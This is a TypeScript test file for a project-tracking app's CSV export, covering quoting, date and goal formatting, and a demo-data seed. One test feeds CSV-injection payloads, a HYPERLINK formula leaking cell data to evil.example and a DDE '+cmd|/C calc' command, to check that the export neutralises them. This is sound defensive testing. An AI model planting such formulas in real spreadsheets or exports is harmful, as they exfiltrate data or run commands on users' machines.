  // One definition of the cells (SQL), the CSV written by COPY on PostgreSQL and by the server with COPY's quoting
  // on PGlite: every kind of cell, on whichever database runs the tests, against the spec's readings computed here.
  const exportFile = async (body: unknown) => {
    const { targetExportCsv } = await import('../../src-server/features/projects/export');
    const { targetExportBodySchema } = await import('@shared/contract/projects/targets');
    const chunks: Buffer[] = [];
    for await (const chunk of targetExportCsv(server.database.db, targetExportBodySchema.parse(body), server.database.kind))
      chunks.push(chunk as Buffer);
    return Buffer.concat(chunks).toString('utf8');
  };
  const parseCsv = async (file: string) => {
    const Papa = (await import('papaparse')).default;
    const [header, ...rows] = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true }).data;
    return rows.map((row) => Object.fromEntries(header.map((column, index) => [column, row[index]])));
  };

  it('writes every kind of cell as the spec reads it, quoted where CSV needs it', async () => {
    const { formatDay: formatDate } = await import('@shared/rules/dates');
    const { escapeFormula } = await import('@shared/rules/csv');
    const { db } = server.database;
    const tricky = [
      'Plain',
      'Semi;colon',
      'Say "hi"',
      ' leading',
      'trailing ',
      '\tTabbed',
      'Line\r\nbreak',
      'Only\nLF',
      'Ctrl\u0001char',
      'Élodie àéü',
      'vt\u000b',
      '',
    ];
    const names: string[] = [];
    for (const [index, text] of tricky.entries()) {
      // The project filter refuses control characters: the tricky text is the client's and the cells'.
      const name = `Format export ${index}`;
      names.push(name);
      await db.execute(sql`INSERT INTO projects (name, client_name, key_account_id, actor, action_code, status)
        VALUES (${name}, ${text}, ${csmId}, 'Laboratoire', ${`FMT${index}-1.`}, 'active')`);
    }
    const projectIds = (await db.execute(sql`SELECT id FROM projects WHERE name = ANY(${sql.param(names)}::text[]) ORDER BY id`)) as unknown as {
      rows: { id: number }[];
    };
    const days = [999_999, 1, 29, 30, 31, 45, 89, 1000];
    // Check dates around the bounds of the dates' fast path (1970 to 9999: a date cast, else to_char).
    const checkDays = Array.from(
      { length: 24 },
      (_, i) => [-86_399, -1, 253_402_300_799, 253_402_300_800, -62_135_596_800][i] ?? 1767225600 - (i + 1) * 3600,
    );
    for (const [index, { id }] of projectIds.rows.entries()) {
      const text = tricky[index];
      await db.execute(sql`INSERT INTO targets (project_id, position, action_code, status, status_rank, type, advert_id, population_category, population_sample,
          population_size, goal_views, goal_days, goal_shipments, start_date, end_date, check_date, quotation_signed_month, initial_quotation_date, revenue,
          revenue_delay_impact, actor, key_account_id)
        SELECT ${id}::int, n, CASE WHEN n % 4 = 0 THEN NULL ELSE ${text}::text || n END, '2. en ligne', 1, CASE WHEN n % 3 = 0 THEN NULL ELSE 'post' END,
          CASE WHEN n % 2 = 0 THEN NULL ELSE n END, CASE WHEN n % 5 = 0 THEN NULL ELSE ${text}::text END, ${text}::text, CASE WHEN n % 2 = 0 THEN NULL ELSE n * 1000 END,
          CASE WHEN n % 3 = 1 THEN n * 7 ELSE 0 END, CASE WHEN n % 3 = 2 THEN (${sql.param(days)}::int[])[1 + (n / 3) % ${days.length}::int] ELSE 0 END, CASE WHEN n % 3 = 0 THEN n ELSE 0 END,
          CASE WHEN n % 6 = 0 THEN NULL ELSE 1767225600 + n * 86399 END, CASE WHEN n = 1 THEN 0 ELSE 4102444800 - n END, (${sql.param(checkDays)}::bigint[])[n],
          CASE WHEN n % 2 = 0 THEN 1767225600 END, 946684800 + n, CASE WHEN n % 4 = 0 THEN NULL ELSE n * 10.05 END,
          CASE WHEN n % 3 = 0 THEN -n * 1.5 END, CASE WHEN n % 2 = 0 THEN ${text}::text END, CASE WHEN n % 7 = 0 THEN NULL ELSE ${csmId}::int END
        FROM generate_series(1, 24) n`);
    }
    const [{ name: keyAccountName }] = (
      (await db.execute(sql`SELECT name FROM accounts WHERE id = ${csmId}`)) as unknown as { rows: { name: string }[] }
    ).rows;
    const file = await exportFile({ filters: { projectName: names, status: [] }, orderBy: 'id', order: 'ASC' });
    // The export's reading of a goal in days (spec §3): under 30 in jours, else days/30 to one decimal in mois.
    const goalInDays: Record<number, string> = {
      999_999: '33333.3 mois',
      1: '1 jours',
      29: '29 jours',
      30: '1 mois',
      31: '1 mois',
      45: '1.5 mois',
      89: '3 mois',
      1000: '33.3 mois',
    };
    const expected = tricky.flatMap((text, index) =>
      Array.from({ length: 24 }, (_, i) => {
        const n = i + 1;
        return {
          projectName: names[index],
          clientName: escapeFormula(text),
          advertId: n % 2 === 0 ? '' : String(n),
          advertSource: n % 2 === 0 ? '' : `/adverts/edit/${n}`,
          actionCode: n % 4 === 0 ? '' : escapeFormula(text + n),
          status: '2. en ligne',
          keyAccount: n % 7 === 0 ? '' : keyAccountName,
          type: n % 3 === 0 ? '' : 'post',
          populationCategory: n % 5 === 0 ? '' : escapeFormula(text),
          populationSample: escapeFormula(text),
          populationSize: n % 2 === 0 ? '' : String(n * 1000),
          goal: n % 3 === 1 ? String(n * 7) : n % 3 === 2 ? goalInDays[days[Math.floor(n / 3) % days.length]] : `${n} envois`,
          startDate: n % 6 === 0 ? '' : formatDate(1767225600 + n * 86399),
          checkDate: formatDate(checkDays[i]),
          endDate: formatDate(n === 1 ? 0 : 4102444800 - n),
          actor: n % 2 === 0 ? escapeFormula(text) : '',
          quotationSignedMonth: n % 2 === 0 ? formatDate(1767225600) : '',
          initialQuotationDate: formatDate(946684800 + n),
          revenue: n % 4 === 0 ? '' : (n * 10.05).toFixed(2),
          revenueDelayImpact: n % 3 === 0 ? (-n * 1.5).toFixed(2) : '',
        };
      }),
    );
    const cells = await parseCsv(file);
    expect(cells).toHaveLength(expected.length);
    // Row by row: a difference names its row.
    for (const [index, row] of expected.entries()) expect(cells[index], `row ${index}`).toEqual(row);
    // The bytes: ';' and CRLF, a cell quoted only when it holds ';', '"' or a line break (COPY's CSV).
    expect(
      file.startsWith(
        '\uFEFFprojectName;clientName;advertId;advertSource;actionCode;status;keyAccount;type;populationCategory;populationSample;populationSize;goal;',
      ),
    ).toBe(true);
    expect(file).toContain(';"Semi;colon";');
    expect(file).toContain(';"Say ""hi""";');
    expect(file).toContain(';"Line\r\nbreak";');
    expect(file).toContain('; leading;');
    expect(file).toContain(';33333.3 mois;');
    // Every record ends with CRLF; a bare line feed only inside a quoted cell.
    expect(
      file
        .replace(/"(?:[^"]|"")*"/g, '')
        .split('\n')
        .slice(0, -1)
        .every((line) => line.endsWith('\r')),
    ).toBe(true);
    expect(file.endsWith('\r\n')).toBe(true);
  }, 60_000);

  // OWASP CSV injection: a text cell a spreadsheet would run as a formula comes back with a ' in front, from the
  // route and from the export's stream; numbers, negative ones included, and texts that are plain numbers stay.
  it('neutralises formulas in every text cell, never in numbers', async () => {
    const { db } = server.database;
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
    const client = "+cmd|'/C calc'!A0";
    await db.execute(sql`INSERT INTO projects (name, client_name, key_account_id, actor, action_code, status)
      VALUES (${name}, ${client}, ${csmId}, 'Laboratoire', 'HOSTILE-1.', 'active')`);
    const [{ id }] = ((await db.execute(sql`SELECT id FROM projects WHERE name = ${name}`)) as unknown as { rows: { id: number }[] }).rows;
    const hostile = { actionCode: "@SUM(1+1)*cmd|'/C calc'!A0", category: '\t=1+1', sample: '-2+3', actor: '\r=1+1' };
    await db.execute(sql`INSERT INTO targets (project_id, position, action_code, status, status_rank, type, advert_id, population_category, population_sample,
        population_size, goal_views, goal_days, goal_shipments, revenue, revenue_delay_impact, actor, key_account_id)
      VALUES (${id}, 0, ${hostile.actionCode}, '2. en ligne', 1, 'post', 7, ${hostile.category}, ${hostile.sample}, -5, 0, 0, 0, -1234.5, -7.25, ${hostile.actor}, ${csmId}),
        (${id}, 1, '-5', '2. en ligne', 1, 'post', NULL, '+3', '-1,5', 12, 0, 100, 0, 10, NULL, 'Plain', ${csmId})`);
    const body = { filters: { projectName: [name], status: [] }, orderBy: 'id', order: 'ASC' };
    const viaRoute = await server.request('POST', '/targets/export', { token: csm, body });
    expect(viaRoute.status).toBe(200);
    const files = { route: viaRoute.body as string, stream: await exportFile(body) };
    for (const [how, file] of Object.entries(files)) {
      const cells = await parseCsv(file);
      expect(cells, how).toHaveLength(2);
      expect(cells[0], how).toMatchObject({
        projectName: `'${name}`,
        clientName: `'${client}`,
        actionCode: `'${hostile.actionCode}`,
        populationCategory: `'${hostile.category}`,
        populationSample: `'${hostile.sample}`,
        actor: `'${hostile.actor}`,
        advertId: '7',
        populationSize: '-5',
        revenue: '-1234.50',
        revenueDelayImpact: '-7.25',
        goal: '',
      });
      expect(cells[1], how).toMatchObject({
        projectName: `'${name}`,
        actionCode: '-5',
        populationCategory: '+3',
        populationSample: '-1,5',
        populationSize: '12',
        actor: 'Plain',
        goal: '3.3 mois',
      });
      // The ' is the cell's first character, inside the quotes where CSV quotes the cell.
      expect(file, how).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";'+cmd|'/C calc'!A0;7;/adverts/edit/7;'@SUM(1+1)`);
      expect(file, how).toContain(`;'-2+3;-5;`);
      expect(file, how).toContain(`;"'\r=1+1";`);
      expect(file, how).toContain(`;-1234.50;-7.25\r\n`);
    }
    expect(files.route.replace(/^\uFEFF/, '')).toBe(files.stream.replace(/^\uFEFF/, ''));
  }, 60_000);
});

describe('demo workspace', () => {
  it('seeds realistic projects once, with consistent statuses, unique codes and the timing rules applied', async () => {
    const { freshDatabase } = await import('../helpers/database');
    const { seedDemo } = await import('../../src-server/seed');
    const { seedProjectDemo } = await import('../../src-server/features/projects/demo');
    const database = await freshDatabase();
    try {
      await seedDemo(database.db);
      expect(await seedProjectDemo(database.db, new Date(Date.UTC(2026, 5, 1)))).toBe(true);
      expect(await seedProjectDemo(database.db, new Date(Date.UTC(2026, 5, 1)))).toBe(false);
      const query = async <T>(text: ReturnType<typeof sql>) => ((await database.db.execute(text)) as unknown as { rows: T[] }).rows;
      const [counts] = await query<{ projects: number; targets: number; csm: number; late: number; withImpact: number }>(sql`SELECT
        (SELECT count(*)::int FROM projects) AS projects, (SELECT count(*)::int FROM targets) AS targets,
        (SELECT count(DISTINCT key_account_id)::int FROM projects) AS csm,
        (SELECT count(*)::int FROM targets WHERE release_date_diff > 15 AND status <> '7. annulé') AS late,
        (SELECT count(*)::int FROM targets WHERE revenue_delay_impact > 0) AS "withImpact"`);
      expect(counts.projects).toBeGreaterThanOrEqual(15);
      expect(counts.targets).toBeGreaterThanOrEqual(counts.projects * 3);
      expect(counts.csm).toBe(1);
      expect(counts.late).toBeGreaterThan(0);
      expect(counts.withImpact).toBeGreaterThan(0);
      const wrongRank = await query<{ id: number }>(
        sql`SELECT id FROM targets WHERE status_rank <> array_position(${sql.param([
          '1. offline - préparation',
          '2. en ligne',
          '3. stats à sortir',
          '3.1 Urgent - Stats à sortir',
          '3.2 stats intermédiaires',
          '4. feedback à préparer',
          '5. feedback prêt',
          '6. feedback réalisé',
          '7. annulé',
        ])}::text[], status) - 1`,
      );
      expect(wrongRank).toEqual([]);
      const cancelledWithDelay = await query<{ id: number }>(
        sql`SELECT id FROM targets WHERE status = '7. annulé' AND (release_date_diff IS NOT NULL OR delay_reason IS NOT NULL)`,
      );
      expect(cancelledWithDelay).toEqual([]);
    } finally {
      await database.close();
    }
  }, 120_000);
});
